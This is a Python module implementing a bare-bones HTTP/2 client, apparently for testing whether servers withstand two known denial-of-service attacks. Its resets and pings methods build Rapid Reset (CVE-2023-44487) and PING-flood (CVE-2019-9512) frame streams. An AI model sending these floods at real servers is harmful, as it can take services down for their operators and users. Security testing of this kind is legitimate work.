"""Just enough HTTP/2 (RFC 9113) to ask, to read settings, and to misbehave."""

import ssl
import struct
from contextlib import suppress
from types import TracebackType
from typing import ClassVar, Self

_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY = 0, 1, 3, 4, 6, 7
_END_STREAM, _ACK, _END_HEADERS = 0x1, 0x1, 0x4


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _literal(name: str, value: str) -> bytes:
    """Return a header that enters no table (RFC 7541, section 6.2.2)."""
    parts = (text.encode() for text in (name, value))
    return b"\x00" + b"".join(bytes([len(part)]) + part for part in parts)


def _request(stream: int, path: str, method: str = "GET") -> bytes:
    fields = {":method": method, ":scheme": "https", ":authority": "login.example.com"}
    block = b"".join(_literal(*field) for field in ({**fields, ":path": path}).items())
    return _frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, block)


class Http2:
    MAX_CONCURRENT_STREAMS: ClassVar = 3
    INITIAL_WINDOW_SIZE: ClassVar = 4

    def __init__(self, connection: ssl.SSLSocket) -> None:
        assert connection.selected_alpn_protocol() == "h2"
        self._connection = connection
        self._stream = connection.makefile("rb")
        self.settings: dict[int, int] = {}
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0))

    def __enter__(self) -> Self:
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        at: TracebackType | None,
    ) -> None:
        self._stream.close()
        self._connection.close()

    def get(self, path: str) -> bytes:
        return self.ask("GET", path)

    def ask(self, method: str, path: str) -> bytes:
        """Return the body of the answer to the connection's first request."""
        self._connection.sendall(_request(1, path, method))
        body = b""
        while True:
            kind, flags, stream, payload = self._read()
            if stream == 1 and kind == _DATA:
                body += payload
            if stream == 1 and flags & _END_STREAM:
                return body

    def is_closed_by(self, frames: bytes) -> bool:
        """Send frames without reading until all are sent or nothing more is taken."""
        self._connection.settimeout(60)
        with suppress(OSError):
            self._connection.sendall(frames)
        try:
            while True:
                kind, _, _, payload = self._read()
                if kind == _GOAWAY:
                    return struct.unpack(">I", payload[4:8])[0] != 0
        except (EOFError, ConnectionError, ssl.SSLError):
            return True
        except TimeoutError:
            return False

    def _read(self) -> tuple[int, int, int, bytes]:
        head = self._stream.read(9)
        if len(head) < 9:
            raise EOFError
        length = int.from_bytes(head[:3], "big")
        kind, flags, stream = struct.unpack(">BBI", head[3:])
        payload = self._stream.read(length)
        if kind == _SETTINGS and not flags & _ACK:
            for position in range(0, length, 6):
                key, value = struct.unpack(">HI", payload[position : position + 6])
                self.settings[key] = value
        return kind, flags, stream, payload

    @staticmethod
    def resets(count: int) -> bytes:
        """Return requests that are each taken back at once (CVE-2023-44487)."""
        cancel = struct.pack(">I", 8)
        return b"".join(
            _request(stream, "/demo") + _frame(_RST_STREAM, 0, stream, cancel)
            for stream in range(1, 2 * count, 2)
        )

    @staticmethod
    def pings(count: int) -> bytes:
        """Return questions whose answers nobody reads (CVE-2019-9512)."""
        return _frame(_PING, 0, 0, b"12345678") * count
